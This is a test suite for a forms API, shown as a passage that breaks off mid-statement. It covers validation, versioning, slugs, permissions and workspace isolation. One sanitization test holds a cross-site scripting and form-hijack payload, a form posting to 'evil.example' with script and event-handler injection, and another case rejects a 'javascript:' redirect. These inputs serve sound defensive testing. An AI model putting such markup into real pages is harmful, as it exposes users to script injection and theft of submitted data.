import { expect, it } from 'vitest';
import { describeApi, type Harness, type TestWorkspace } from '../helpers/app.js';

const FORM_KEYS = [
  'id',
  'name',
  'description',
  'type',
  'display',
  'fieldMapping',
  'settings',
  'doubleOptInEmailId',
  'seoTitle',
  'seoDescription',
  'seoImageUrl',
  'seoFaviconUrl',
  'slug',
  'status',
  'version',
  'formGroupId',
  'previousVersionId',
  'htmlValidation',
  'createdAt',
  'updatedAt',
  'publishedAt',
  'archivedAt',
].sort();
const ISO = /^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{3}Z$/;
const emoji = (n: number) => '😀'.repeat(n);

async function createForm(h: Harness, ws: TestWorkspace, body: Record<string, unknown> = {}) {
  const res = await h.call(ws.key, 'POST', '/v1/forms', {
    name: 'Newsletter',
    type: 'SIGN_UP',
    fieldMapping: { email: 'email' },
    ...body,
  });
  expect(res.statusCode, res.body).toBe(201);
  return res.json();
}

async function published(h: Harness, ws: TestWorkspace, body: Record<string, unknown> = {}) {
  const form = await createForm(h, ws, body);
  const res = await h.call(ws.key, 'POST', `/v1/forms/${form.id}/publish`);
  expect(res.statusCode, res.body).toBe(200);
  return res.json();
}

async function formRow(h: Harness, id: string) {
  return h.db.kysely.selectFrom('forms').selectAll().where('id', '=', id).executeTakeFirst();
}

describeApi('forms', (h) => {
  it('POST creates a DRAFT version 1 with every field present (null where unset) and a Location', async () => {
    const ws = await h.workspace();
    const res = await h.call(ws.key, 'POST', '/v1/forms', { name: 'Newsletter', type: 'SIGN_UP' });
    expect(res.statusCode).toBe(201);
    const form = res.json();
    expect(res.headers.location).toBe(`/v1/forms/${form.id}`);
    expect(Object.keys(form).sort()).toEqual(FORM_KEYS);
    expect(form).toMatchObject({
      name: 'Newsletter',
      type: 'SIGN_UP',
      status: 'DRAFT',
      version: 1,
      description: null,
      display: null,
      fieldMapping: {},
      settings: { successAction: { type: 'MESSAGE' }, doubleOptIn: false },
      doubleOptInEmailId: null,
      slug: null,
      previousVersionId: null,
      htmlValidation: null,
      publishedAt: null,
      archivedAt: null,
    });
    expect(form.id).toMatch(/^form_/);
    expect(form.formGroupId).toMatch(/^fgrp_/);
    expect(form.settings.successAction.message.length).toBeGreaterThan(0);
    expect(form.createdAt).toMatch(ISO);
    expect(form.updatedAt).toBe(form.createdAt);
    expect((await h.call(ws.key, 'GET', `/v1/forms/${form.id}`)).json()).toEqual({
      ...form,
      stats: { views: 0, submissions: 0, confirmations: 0, conversion: null },
    });
  });

  it('POST requires name and type and rejects unknown fields, listing every violation', async () => {
    const ws = await h.workspace();
    const res = await h.call(ws.key, 'POST', '/v1/forms', { status: 'PUBLISHED', extra: 1 });
    expect(res.statusCode).toBe(422);
    const paths = res
      .json()
      .errors.map((e: { path: string }) => e.path)
      .sort();
    expect(paths).toEqual(['/extra', '/name', '/status', '/type']);
    expect((await h.call(ws.key, 'GET', '/v1/forms')).json().data).toHaveLength(0);
  });

  it.each([
    ['0 characters', '', 422],
    ['1 character', 'a', 200],
    ['200 characters', 'a'.repeat(200), 200],
    ['201 characters', 'a'.repeat(201), 422],
    ['200 emoji', emoji(200), 200],
    ['201 emoji', emoji(201), 422],
  ])('PUT name of %s', async (_label, name, status) => {
    const ws = await h.workspace();
    const form = await createForm(h, ws);
    const res = await h.call(ws.key, 'PUT', `/v1/forms/${form.id}`, { name });
    expect(res.statusCode).toBe(status);
    const row = await formRow(h, form.id);
    if (status === 200) {
      expect(res.json().name).toBe(name);
      expect(row!.name).toBe(name);
    } else {
      expect(res.json()).toMatchObject({ code: 'validation_failed', errors: [{ path: '/name' }] });
      expect(row!.name).toBe('Newsletter');
    }
  });

  it.each([
    ['', 422],
    [emoji(200), 201],
    [emoji(201), 422],
    ['a'.repeat(201), 422],
  ])('POST name %#', async (name, status) => {
    const ws = await h.workspace();
    expect((await h.call(ws.key, 'POST', '/v1/forms', { name, type: 'SURVEY' })).statusCode).toBe(status);
  });

  it('PUT is partial: omitted fields unchanged, present ones replaced whole, null clears, updatedAt refreshed', async () => {
    const ws = await h.workspace();
    const form = await createForm(h, ws, {
      description: 'Monthly news',
      display: 'POPUP',
      fieldMapping: { email: 'email', first: 'firstName' },
      settings: { successAction: { type: 'REDIRECT', url: 'https://example.com/thanks' }, doubleOptIn: true },
      seoTitle: 'News',
      seoDescription: 'All the news',
      seoImageUrl: 'https://example.com/a.png',
      seoFaviconUrl: 'https://example.com/f.ico',
      slug: 'news',
    });
    await new Promise((r) => setTimeout(r, 5));
    const res = await h.call(ws.key, 'PUT', `/v1/forms/${form.id}`, {
      name: 'Renamed',
      description: null,
      fieldMapping: { mail: 'email' },
      settings: { doubleOptIn: false },
    });
    expect(res.statusCode).toBe(200);
    const updated = res.json();
    expect(Object.keys(updated).sort()).toEqual(FORM_KEYS);
    expect(updated).toMatchObject({
      id: form.id,
      status: 'DRAFT',
      name: 'Renamed',
      description: null,
      display: 'POPUP',
      fieldMapping: { mail: 'email' }, // replaced, not merged
      settings: { successAction: { type: 'MESSAGE' }, doubleOptIn: false }, // replaced whole; defaults fill what is missing
      seoTitle: 'News',
      seoDescription: 'All the news',
      seoImageUrl: 'https://example.com/a.png',
      seoFaviconUrl: 'https://example.com/f.ico',
      slug: 'news',
    });
    expect(updated.updatedAt > form.updatedAt).toBe(true);
    expect(updated.createdAt).toBe(form.createdAt);
    const again = await h.call(ws.key, 'PUT', `/v1/forms/${form.id}`, {});
    expect(again.statusCode).toBe(200);
    expect(again.json().updatedAt >= updated.updatedAt).toBe(true);
    const cleared = (
      await h.call(ws.key, 'PUT', `/v1/forms/${form.id}`, {
        display: null,
        seoTitle: null,
        seoDescription: null,
        seoImageUrl: null,
        seoFaviconUrl: null,
        slug: null,
      })
    ).json();
    expect(cleared).toMatchObject({
      display: null,
      seoTitle: null,
      seoDescription: null,
      seoImageUrl: null,
      seoFaviconUrl: null,
      slug: null,
      name: 'Renamed',
    });
  });

  it("PUT of a draft's own fields only (the one-statement save): each given field set, null clears, the rest kept", async () => {
    const ws = await h.workspace();
    const form = await createForm(h, ws, {
      description: 'Monthly news',
      display: 'POPUP',
      settings: { doubleOptIn: true },
      seoTitle: 'News',
      seoDescription: 'All the news',
      seoImageUrl: 'https://example.com/a.png',
      slug: 'own-fields',
    });
    const res = await h.call(ws.key, 'PUT', `/v1/forms/${form.id}`, {
      description: null,
      seoTitle: 'Fresh',
      seoImageUrl: null,
      seoFaviconUrl: 'https://example.com/f.ico',
      settings: { doubleOptIn: false, successAction: { type: 'MESSAGE', message: 'Thanks' } },
    });
    expect(res.statusCode, res.body).toBe(200);
    const expected = {
      name: 'Newsletter',
      description: null,
      display: 'POPUP',
      seoTitle: 'Fresh',
      seoDescription: 'All the news',
      seoImageUrl: null,
      seoFaviconUrl: 'https://example.com/f.ico',
      slug: 'own-fields',
      fieldMapping: { email: 'email' },
      settings: { doubleOptIn: false, successAction: { type: 'MESSAGE', message: 'Thanks' } },
    };
    expect(res.json()).toMatchObject(expected);
    expect((await h.call(ws.key, 'GET', `/v1/forms/${form.id}`)).json()).toMatchObject(expected);
    const row = (await formRow(h, form.id))!;
    expect([row.description, row.seo_title, row.seo_image_url, row.name]).toEqual([null, 'Fresh', null, 'Newsletter']);
    // Another workspace's key does not reach it, and changes nothing.
    const other = await h.workspace();
    expect((await h.call(other.key, 'PUT', `/v1/forms/${form.id}`, { name: 'Theirs' })).statusCode).toBe(404);
    expect((await formRow(h, form.id))!.name).toBe('Newsletter');
  });

  it('PUT accepts every field of interface 2.1, including type and doubleOptInEmailId', async () => {
    const ws = await h.workspace();
    const form = await createForm(h, ws);
    const tmpl = 'tmpl_01JD0000000000000000000000';
    await h.db.kysely
      .insertInto('templates')
      .values({
        id: tmpl,
        workspace_id: ws.id,
        name: 'Confirm',
        subject: 'Confirm',
        html: '<a href="{{ confirm_url }}">ok</a>',
        text: null,
        created_at: form.createdAt,
        updated_at: form.createdAt,
      })
      .execute();
    const res = await h.call(ws.key, 'PUT', `/v1/forms/${form.id}`, {
      type: 'SURVEY',
      display: 'INLINE_EMBED',
      doubleOptInEmailId: tmpl,
    });
    expect(res.statusCode).toBe(200);
    expect(res.json()).toMatchObject({ type: 'SURVEY', display: 'INLINE_EMBED', doubleOptInEmailId: tmpl });
  });

  it('doubleOptInEmailId must name a template of the workspace (422 invalid_reference)', async () => {
    const ws = await h.workspace();
    const other = await h.workspace();
    const form = await createForm(h, ws);
    const tmpl = 'tmpl_01JD0000000000000000000001';
    await h.db.kysely
      .insertInto('templates')
      .values({
        id: tmpl,
        workspace_id: other.id,
        name: 'Theirs',
        subject: null,
        html: null,
        text: null,
        created_at: form.createdAt,
        updated_at: form.createdAt,
      })
      .execute();
    for (const id of ['tmpl_nope', tmpl]) {
      const res = await h.call(ws.key, 'PUT', `/v1/forms/${form.id}`, { doubleOptInEmailId: id });
      expect(res.statusCode).toBe(422);
      expect(res.json()).toMatchObject({ code: 'invalid_reference', errors: [{ path: '/doubleOptInEmailId' }] });
    }
    expect(
      (await h.call(ws.key, 'POST', '/v1/forms', { name: 'x', type: 'SURVEY', doubleOptInEmailId: 'tmpl_nope' })).json()
        .code,
    ).toBe('invalid_reference');
  });

  it.each([
    ['type', { type: 'NEWSLETTER' }, '/type'],
    ['display', { display: 'MODAL' }, '/display'],
    ['description too long', { description: 'x'.repeat(2001) }, '/description'],
    ['description not a string', { description: 5 }, '/description'],
    ['name not a string', { name: 5 }, '/name'],
    ['name null', { name: null }, '/name'],
    ['fieldMapping bad key', { fieldMapping: { 'bad key!': 'email' } }, '/fieldMapping/bad key!'],
    ['fieldMapping bad property', { fieldMapping: { email: '1email' } }, '/fieldMapping/email'],
    ['fieldMapping property too long', { fieldMapping: { x: 'a'.repeat(65) } }, '/fieldMapping/x'],
    ['fieldMapping two emails', { fieldMapping: { a: 'email', b: 'email' } }, '/fieldMapping/b'],
    ['fieldMapping not an object', { fieldMapping: ['email'] }, '/fieldMapping'],
    [
      'fieldMapping too many',
      { fieldMapping: Object.fromEntries(Array.from({ length: 101 }, (_, i) => [`f${i}`, `p${i}`])) },
      '/fieldMapping',
    ],
    ['settings unknown key', { settings: { colour: 'red' } }, '/settings/colour'],
    [
      'settings REDIRECT without url',
      { settings: { successAction: { type: 'REDIRECT' } } },
      '/settings/successAction/url',
    ],
    [
      'settings REDIRECT to javascript:',
      { settings: { successAction: { type: 'REDIRECT', url: 'javascript:alert(1)' } } },
      '/settings/successAction/url',
    ],
    ['settings doubleOptIn not boolean', { settings: { doubleOptIn: 'yes' } }, '/settings/doubleOptIn'],
    ['seoTitle too long', { seoTitle: 'x'.repeat(201) }, '/seoTitle'],
    ['seoDescription too long', { seoDescription: 'x'.repeat(501) }, '/seoDescription'],
    ['seoImageUrl not http(s)', { seoImageUrl: 'ftp://example.com/a.png' }, '/seoImageUrl'],
    ['seoFaviconUrl relative', { seoFaviconUrl: '/favicon.ico' }, '/seoFaviconUrl'],
    ['slug pattern', { slug: 'Not A Slug' }, '/slug'],
    ['slug too long', { slug: 'a'.repeat(101) }, '/slug'],
    ['unknown field', { colour: 'red' }, '/colour'],
    ['read-only status', { status: 'PUBLISHED' }, '/status'],
    ['read-only version', { version: 3 }, '/version'],
    ['read-only createdAt', { createdAt: '2020-01-01T00:00:00.000Z' }, '/createdAt'],
    ['id of another form', { id: 'form_other' }, '/id'],
  ])('PUT rejects %s with 422 and changes nothing', async (_label, body, path) => {
    const ws = await h.workspace();
    const form = await createForm(h, ws);
    const before = await formRow(h, form.id);
    const res = await h.call(ws.key, 'PUT', `/v1/forms/${form.id}`, body);
    expect(res.statusCode).toBe(422);
    expect(res.headers['content-type']).toMatch(/application\/problem\+json/);
    expect(res.json().code).toBe('validation_failed');
    expect(res.json().errors.map((e: { path: string }) => e.path)).toContain(path);
    expect(await formRow(h, form.id)).toEqual(before);
  });

  it('PUT accepts id equal to the path id', async () => {
    const ws = await h.workspace();
    const form = await createForm(h, ws);
    expect((await h.call(ws.key, 'PUT', `/v1/forms/${form.id}`, { id: form.id, name: 'Same' })).statusCode).toBe(200);
  });

  it('PUT with no body, or a non-object body, is 422', async () => {
    const ws = await h.workspace();
    const form = await createForm(h, ws);
    expect((await h.call(ws.key, 'PUT', `/v1/forms/${form.id}`)).statusCode).toBe(422);
    expect((await h.call(ws.key, 'PUT', `/v1/forms/${form.id}`, [])).statusCode).toBe(422);
    expect((await h.call(ws.key, 'PUT', `/v1/forms/${form.id}`, 'null')).statusCode).toBe(422);
  });

  it('PUT on a PUBLISHED form is 409 form_not_editable and changes nothing', async () => {
    const ws = await h.workspace();
    const form = await published(h, ws);
    const before = await formRow(h, form.id);
    const res = await h.call(ws.key, 'PUT', `/v1/forms/${form.id}`, { name: 'Changed' });
    expect(res.statusCode).toBe(409);
    expect(res.json().code).toBe('form_not_editable');
    expect(res.json().detail).toMatch(/new version/);
    expect(await formRow(h, form.id)).toEqual(before);
    expect(
      (await h.call(ws.key, 'PUT', `/v1/forms/${form.id}/html`, { html: '<input name="email">' })).json().code,
    ).toBe('form_not_editable');
    expect(await formRow(h, form.id)).toEqual(before);
  });

  it('PUT on an ARCHIVED form is 409 form_not_editable and changes nothing', async () => {
    const ws = await h.workspace();
    const v1 = await published(h, ws);
    const v2 = (await h.call(ws.key, 'POST', `/v1/forms/${v1.id}/versions`)).json();
    expect((await h.call(ws.key, 'POST', `/v1/forms/${v2.id}/publish`)).statusCode).toBe(200);
    const before = await formRow(h, v1.id);
    expect(before!.status).toBe('ARCHIVED');
    const res = await h.call(ws.key, 'PUT', `/v1/forms/${v1.id}`, { name: 'Changed' });
    expect(res.statusCode).toBe(409);
    expect(res.json().code).toBe('form_not_editable');
    expect(await formRow(h, v1.id)).toEqual(before);
  });

  it('a validation error is reported before the state conflict only for the body; a valid body on a published form is 409', async () => {
    const ws = await h.workspace();
    const form = await published(h, ws);
    expect((await h.call(ws.key, 'PUT', `/v1/forms/${form.id}`, { name: '' })).statusCode).toBe(422);
    expect((await h.call(ws.key, 'PUT', `/v1/forms/${form.id}`, { name: 'ok' })).statusCode).toBe(409);
  });

  it('versions: a new DRAFT of a PUBLISHED form copies configuration and HTML; publishing it archives the old one', async () => {
    const ws = await h.workspace();
    const draft = await createForm(h, ws, {
      slug: 'join',
      seoTitle: 'Join us',
      fieldMapping: { email: 'email', name: 'firstName' },
    });
    await h.call(ws.key, 'PUT', `/v1/forms/${draft.id}/html`, {
      html: '<form><input name="email"><input name="name"></form>',
    });
    const v1 = (await h.call(ws.key, 'POST', `/v1/forms/${draft.id}/publish`)).json();
    expect(v1).toMatchObject({ status: 'PUBLISHED', version: 1 });
    expect(v1.publishedAt).toMatch(ISO);

    const res = await h.call(ws.key, 'POST', `/v1/forms/${v1.id}/versions`);
    expect(res.statusCode).toBe(201);
    const v2 = res.json();
    expect(res.headers.location).toBe(`/v1/forms/${v2.id}`);
    expect(v2.id).not.toBe(v1.id);
    expect(v2).toMatchObject({
      status: 'DRAFT',
      version: 2,
      formGroupId: v1.formGroupId,
      previousVersionId: v1.id,
      slug: 'join',
      seoTitle: 'Join us',
      fieldMapping: v1.fieldMapping,
      settings: v1.settings,
      publishedAt: null,
      archivedAt: null,
    });
    expect((await h.call(ws.key, 'GET', `/v1/forms/${v2.id}/html`)).json().html).toBe(
      (await h.call(ws.key, 'GET', `/v1/forms/${v1.id}/html`)).json().html,
    );

    // the published version is untouched while the draft is edited
    expect((await h.call(ws.key, 'PUT', `/v1/forms/${v2.id}`, { name: 'Join us v2' })).statusCode).toBe(200);
    expect((await h.call(ws.key, 'GET', `/v1/forms/${v1.id}`)).json().name).toBe('Newsletter');

    const dup = await h.call(ws.key, 'POST', `/v1/forms/${v1.id}/versions`);
    expect(dup.statusCode).toBe(409);
    expect(dup.json()).toMatchObject({ code: 'draft_version_exists', draftId: v2.id });

    const pub = await h.call(ws.key, 'POST', `/v1/forms/${v2.id}/publish`);
    expect(pub.statusCode).toBe(200);
    expect(pub.json()).toMatchObject({ status: 'PUBLISHED', name: 'Join us v2' });
    const old = (await h.call(ws.key, 'GET', `/v1/forms/${v1.id}`)).json();
    expect(old.status).toBe('ARCHIVED');
    expect(old.archivedAt).toMatch(ISO);

    const versions = (await h.call(ws.key, 'GET', `/v1/forms/${v1.id}/versions`)).json();
    expect(versions.data.map((f: { version: number }) => f.version)).toEqual([2, 1]);
    expect(versions.nextCursor).toBeNull();
  });

  it('rollback: publishing an ARCHIVED version makes it PUBLISHED and archives the current one', async () => {
    const ws = await h.workspace();
    const v1 = await published(h, ws);
    const v2 = (await h.call(ws.key, 'POST', `/v1/forms/${v1.id}/versions`)).json();
    await h.call(ws.key, 'POST', `/v1/forms/${v2.id}/publish`);
    const res = await h.call(ws.key, 'POST', `/v1/forms/${v1.id}/publish`);
    expect(res.statusCode).toBe(200);
    expect(res.json()).toMatchObject({ status: 'PUBLISHED', archivedAt: null });
    expect((await h.call(ws.key, 'GET', `/v1/forms/${v2.id}`)).json().status).toBe('ARCHIVED');
    const rows = await h.db.kysely
      .selectFrom('forms')
      .select(['status'])
      .where('form_group_id', '=', v1.formGroupId)
      .execute();
    expect(rows.filter((r) => r.status === 'PUBLISHED')).toHaveLength(1);
  });

  it('version and publish errors: form_not_published, form_already_published, form_incomplete', async () => {
    const ws = await h.workspace();
    const draft = await createForm(h, ws);
    expect((await h.call(ws.key, 'POST', `/v1/forms/${draft.id}/versions`)).json().code).toBe('form_not_published');
    const v1 = (await h.call(ws.key, 'POST', `/v1/forms/${draft.id}/publish`)).json();
    const again = await h.call(ws.key, 'POST', `/v1/forms/${v1.id}/publish`);
    expect(again.statusCode).toBe(409);
    expect(again.json().code).toBe('form_already_published');
    const v2 = (await h.call(ws.key, 'POST', `/v1/forms/${v1.id}/versions`)).json();
    await h.call(ws.key, 'POST', `/v1/forms/${v2.id}/publish`);
    expect((await h.call(ws.key, 'POST', `/v1/forms/${v1.id}/versions`)).json().code).toBe('form_not_published');

    const noEmail = await createForm(h, ws, { fieldMapping: { first: 'firstName' } });
    const inc = await h.call(ws.key, 'POST', `/v1/forms/${noEmail.id}/publish`);
    expect(inc.statusCode).toBe(422);
    expect(inc.json()).toMatchObject({ code: 'form_incomplete', errors: [{ path: '/fieldMapping' }] });
    expect((await formRow(h, noEmail.id))!.status).toBe('DRAFT');
    const survey = await createForm(h, ws, { type: 'SURVEY', fieldMapping: {} });
    expect((await h.call(ws.key, 'POST', `/v1/forms/${survey.id}/publish`)).statusCode).toBe(200);
  });

  it('deployed HTML is sanitized and cross-validated; an invalid mapping blocks publishing until fixed', async () => {
    const ws = await h.workspace();
    const form = await createForm(h, ws, { fieldMapping: { email: 'email', company: 'company' } });
    const res = await h.call(ws.key, 'PUT', `/v1/forms/${form.id}/html`, {
      html: '<form action="https://evil.example" onsubmit="steal()"><script>alert(1)</script><input name="email" type="email" onfocus="x()"><input name="utm"><a href="javascript:alert(1)">x</a><button type="submit" name="company">Go</button></form>',
    });
    expect(res.statusCode).toBe(200);
    const deployed = res.json();
    expect(deployed.html).not.toMatch(/script|onsubmit|onfocus|javascript|evil/i);
    expect(deployed.html).toContain('name="email"');
    expect(deployed.deployedAt).toMatch(ISO);
    expect(deployed.htmlValidation).toMatchObject({
      valid: false,
      errors: [{ code: 'field_not_in_html', field: 'company' }],
      warnings: [{ code: 'control_not_mapped', field: 'utm' }],
    });
    expect((await h.call(ws.key, 'GET', `/v1/forms/${form.id}`)).json().htmlValidation.valid).toBe(false);
    const blocked = await h.call(ws.key, 'POST', `/v1/forms/${form.id}/publish`);
    expect(blocked.statusCode).toBe(422);
    expect(blocked.json().code).toBe('form_incomplete');

    // changing fieldMapping re-runs the check automatically; the update is applied either way
    const fixed = (
      await h.call(ws.key, 'PUT', `/v1/forms/${form.id}`, { fieldMapping: { email: 'email', utm: 'utm_source' } })
    ).json();
    expect(fixed.fieldMapping).toEqual({ email: 'email', utm: 'utm_source' });
    expect(fixed.htmlValidation).toMatchObject({ valid: true, errors: [], warnings: [] });
    expect(fixed.htmlValidation.checkedAt > deployed.htmlValidation.checkedAt).toBe(true);
    const broken = (await h.call(ws.key, 'PUT', `/v1/forms/${form.id}`, { fieldMapping: { mail: 'email' } })).json();
    expect(broken.fieldMapping).toEqual({ mail: 'email' });
    expect(broken.htmlValidation.errors).toEqual([{ code: 'field_not_in_html', field: 'mail' }]);
    // an update that leaves fieldMapping alone does not re-check
    const renamed = (await h.call(ws.key, 'PUT', `/v1/forms/${form.id}`, { name: 'x' })).json();
    expect(renamed.htmlValidation.checkedAt).toBe(broken.htmlValidation.checkedAt);
    await h.call(ws.key, 'PUT', `/v1/forms/${form.id}`, { fieldMapping: { email: 'email' } });
    expect((await h.call(ws.key, 'POST', `/v1/forms/${form.id}/publish`)).statusCode).toBe(200);
  });

  it('without deployed HTML, fieldMapping changes do not produce htmlValidation and GET html renders one', async () => {
    const ws = await h.workspace();
    const form = await createForm(h, ws);
    expect(
      (
        await h.call(ws.key, 'PUT', `/v1/forms/${form.id}`, { fieldMapping: { email: 'email', first: 'firstName' } })
      ).json().htmlValidation,
    ).toBeNull();
    const html = (await h.call(ws.key, 'GET', `/v1/forms/${form.id}/html`)).json();
    expect(html.deployedAt).toBeNull();
    expect(html.html).toContain('name="email"');
    expect(html.html).toContain('name="first"');
    // html: null removes custom HTML again
    await h.call(ws.key, 'PUT', `/v1/forms/${form.id}/html`, { html: '<input name="email">' });
    const removed = (await h.call(ws.key, 'PUT', `/v1/forms/${form.id}/html`, { html: null })).json();
    expect(removed).toMatchObject({ deployedAt: null, htmlValidation: null });
  });

  it('HTML over 512 KiB is 413 and changes nothing', async () => {
    const ws = await h.workspace();
    const form = await createForm(h, ws);
    const res = await h.call(ws.key, 'PUT', `/v1/forms/${form.id}/html`, { html: `<p>${'a'.repeat(512 * 1024)}</p>` });
    expect(res.statusCode).toBe(413);
    expect(res.json().code).toBe('payload_too_large');
    expect((await formRow(h, form.id))!.html).toBeNull();
    expect(
      (
        await h.call(ws.key, 'PUT', `/v1/forms/${form.id}/html`, {
          html: `<input name="email"><p>${'a'.repeat(500 * 1024)}</p>`,
        })
      ).statusCode,
    ).toBe(200);
  });

  it('slugs are unique across groups and workspaces (409 slug_taken) and shared by a group’s versions', async () => {
    const ws = await h.workspace();
    const other = await h.workspace();
    const a = await createForm(h, ws, { slug: 'spring' });
    const taken = await h.call(ws.key, 'POST', '/v1/forms', { name: 'B', type: 'SURVEY', slug: 'spring' });
    expect(taken.statusCode).toBe(409);
    expect(taken.json().code).toBe('slug_taken');
    expect((await h.call(ws.key, 'GET', '/v1/forms')).json().data).toHaveLength(1); // nothing created
    expect(
      (await h.call(other.key, 'POST', '/v1/forms', { name: 'B', type: 'SURVEY', slug: 'spring' })).json().code,
    ).toBe('slug_taken');
    const b = await createForm(h, ws, { slug: 'summer' });
    expect((await h.call(ws.key, 'PUT', `/v1/forms/${b.id}`, { slug: 'spring' })).json().code).toBe('slug_taken');
    expect((await formRow(h, b.id))!.slug).toBe('summer');

    // versions of one group share theirs
    await h.call(ws.key, 'POST', `/v1/forms/${a.id}/publish`);
    const a2 = (await h.call(ws.key, 'POST', `/v1/forms/${a.id}/versions`)).json();
    expect(a2.slug).toBe('spring');
    expect((await h.call(ws.key, 'PUT', `/v1/forms/${a2.id}`, { slug: 'spring' })).statusCode).toBe(200);
    // a slug freed by every version of its group can be taken by another form
    expect((await h.call(ws.key, 'PUT', `/v1/forms/${b.id}`, { slug: null })).statusCode).toBe(200);
    expect((await h.call(ws.key, 'PUT', `/v1/forms/${a2.id}`, { slug: 'summer' })).statusCode).toBe(200);
  });

  it('DELETE removes a DRAFT (204) but not a PUBLISHED or ARCHIVED version (409)', async () => {
    const ws = await h.workspace();
    const draft = await createForm(h, ws, { slug: 'temp' });
    expect((await h.call(ws.key, 'DELETE', `/v1/forms/${draft.id}`)).statusCode).toBe(204);
    expect((await h.call(ws.key, 'GET', `/v1/forms/${draft.id}`)).statusCode).toBe(404);
    expect(
      await h.db.kysely.selectFrom('form_groups').select('id').where('id', '=', draft.formGroupId).executeTakeFirst(),
    ).toBeUndefined();
    await createForm(h, ws, { slug: 'temp' }); // its slug was released

    const v1 = await published(h, ws);
    const del = await h.call(ws.key, 'DELETE', `/v1/forms/${v1.id}`);
    expect(del.statusCode).toBe(409);
    expect(del.json().code).toBe('form_not_editable');
    const v2 = (await h.call(ws.key, 'POST', `/v1/forms/${v1.id}/versions`)).json();
    expect((await h.call(ws.key, 'DELETE', `/v1/forms/${v2.id}`)).statusCode).toBe(204);
    expect((await h.call(ws.key, 'GET', `/v1/forms/${v1.id}`)).json().status).toBe('PUBLISHED');
    const v3 = (await h.call(ws.key, 'POST', `/v1/forms/${v1.id}/versions`)).json();
    expect(v3.version).toBe(3); // version numbers are never reused
    await h.call(ws.key, 'POST', `/v1/forms/${v3.id}/publish`);
    expect((await h.call(ws.key, 'DELETE', `/v1/forms/${v1.id}`)).statusCode).toBe(409);
  });

  it('lists newest first with cursor pagination and a status filter', async () => {
    const ws = await h.workspace();
    const ids: string[] = [];
    for (let i = 0; i < 5; i++) ids.push((await createForm(h, ws, { name: `F${i}` })).id);
    await h.call(ws.key, 'POST', `/v1/forms/${ids[1]}/publish`);
    const p1 = (await h.call(ws.key, 'GET', '/v1/forms?limit=2')).json();
    expect(p1.data.map((f: { id: string }) => f.id)).toEqual([ids[4], ids[3]]);
    expect(p1.nextCursor).toEqual(expect.any(String));
    const p2 = (await h.call(ws.key, 'GET', `/v1/forms?limit=2&cursor=${p1.nextCursor}`)).json();
    expect(p2.data.map((f: { id: string }) => f.id)).toEqual([ids[2], ids[1]]);
    const p3 = (await h.call(ws.key, 'GET', `/v1/forms?limit=2&cursor=${p2.nextCursor}`)).json();
    expect(p3.data.map((f: { id: string }) => f.id)).toEqual([ids[0]]);
    expect(p3.nextCursor).toBeNull();
    const pub = (await h.call(ws.key, 'GET', '/v1/forms?status=PUBLISHED')).json();
    expect(pub.data.map((f: { id: string }) => f.id)).toEqual([ids[1]]);
    expect((await h.call(ws.key, 'GET', '/v1/forms')).json().data).toHaveLength(5);
  });

  it("another workspace's form is answered as missing (404) by every operation, and nothing changes", async () => {
    const owner = await h.workspace();
    const intruder = await h.workspace();
    const form = await published(h, owner, { slug: 'mine' });
    const draft = (await h.call(owner.key, 'POST', `/v1/forms/${form.id}/versions`)).json();
    const before = await h.db.kysely
      .selectFrom('forms')
      .selectAll()
      .where('workspace_id', '=', owner.id)
      .orderBy('id')
      .execute();
    const attempts: [string, string, unknown?][] = [
      ['GET', `/v1/forms/${form.id}`],
      ['PUT', `/v1/forms/${draft.id}`, { name: 'pwned' }],
      ['DELETE', `/v1/forms/${draft.id}`],
      ['GET', `/v1/forms/${form.id}/html`],
      ['PUT', `/v1/forms/${draft.id}/html`, { html: '<p>x</p>' }],
      ['POST', `/v1/forms/${form.id}/versions`],
      ['GET', `/v1/forms/${form.id}/versions`],
      ['POST', `/v1/forms/${draft.id}/publish`],
    ];
    for (const [method, url, body] of attempts) {
      const res = await h.call(intruder.key, method as 'GET', url, body);
      expect(res.statusCode, `${method} ${url}`).toBe(404);
      expect(res.json().code).toBe('not_found');
    }
    expect((await h.call(intruder.key, 'GET', '/v1/forms')).json().data).toHaveLength(0);
    expect(
      await h.db.kysely.selectFrom('forms').selectAll().where('workspace_id', '=', owner.id).orderBy('id').execute(),
    ).toEqual(before);
    // slugs are public addresses, unique across workspaces: taken, and nothing of the owner's form shown
    const taken = await h.call(intruder.key, 'POST', '/v1/forms', { name: 'x', type: 'SURVEY', slug: 'mine' });
    expect(taken.statusCode).toBe(409);
    expect(taken.json().code).toBe('slug_taken');
    expect(taken.body).not.toContain(form.id);
  });

  it('a key without write:forms gets 403 on every write, and read:forms reads', async () => {
    const ws = await h.workspace();
    const form = await createForm(h, ws);
    const reader = await h.key(ws, ['read:forms']);
    const writes: [string, string, unknown?][] = [
      ['POST', '/v1/forms', { name: 'x', type: 'SURVEY' }],
      ['PUT', `/v1/forms/${form.id}`, { name: 'x' }],
      ['DELETE', `/v1/forms/${form.id}`],
      ['PUT', `/v1/forms/${form.id}/html`, { html: '' }],
      ['POST', `/v1/forms/${form.id}/versions`],
      ['POST', `/v1/forms/${form.id}/publish`],
    ];
    for (const [method, url, body] of writes) {
      const res = await h.call(reader, method as 'GET', url, body);
      expect(res.statusCode, `${method} ${url}`).toBe(403);
      expect(res.json()).toMatchObject({ code: 'insufficient_scope' });
      expect(res.json().detail).toContain('write:forms');
    }
    for (const url of [
      `/v1/forms/${form.id}`,
      '/v1/forms',
      `/v1/forms/${form.id}/html`,
      `/v1/forms/${form.id}/versions`,
    ]) {
      expect((await h.call(reader, 'GET', url)).statusCode).toBe(200);
    }
    expect((await formRow(h, form.id))!.status).toBe('DRAFT');
    const none = await h.key(ws, ['read:contacts']);
    expect((await h.call(none, 'GET', `/v1/forms/${form.id}`)).statusCode).toBe(403);
  });

  it('unknown form ids are 404 not_found', async () => {
    const ws = await h.workspace();
    for (const [method, url] of [
      ['GET', '/v1/forms/form_01JD000000000000000000000X'],
      ['PUT', '/v1/forms/nope'],
      ['POST', '/v1/forms/nope/publish'],
      ['DELETE', '/v1/forms/nope'],
    ] as const) {
      const res = await h.call(ws.key, method, url, method === 'PUT' ? { name: 'x' } : undefined);
      expect(res.statusCode).toBe(404);
    }
  });

  it('the database itself holds "one PUBLISHED and one DRAFT per group"', async () => {
    const ws = await h.workspace();
    const v1 = await published(h, ws);
    const v2 = (await h.call(ws.key, 'POST', `/v1/forms/${v1.id}/versions`)).json();
    const row = (await formRow(h, v2.id))!;
    await expect(
      h.db.kysely.updateTable('forms').set({ status: 'PUBLISHED' }).where('id', '=', v2.id).execute(),
    ).rejects.toThrow(/unique|UNIQUE/);
    await expect(
      h.db.kysely
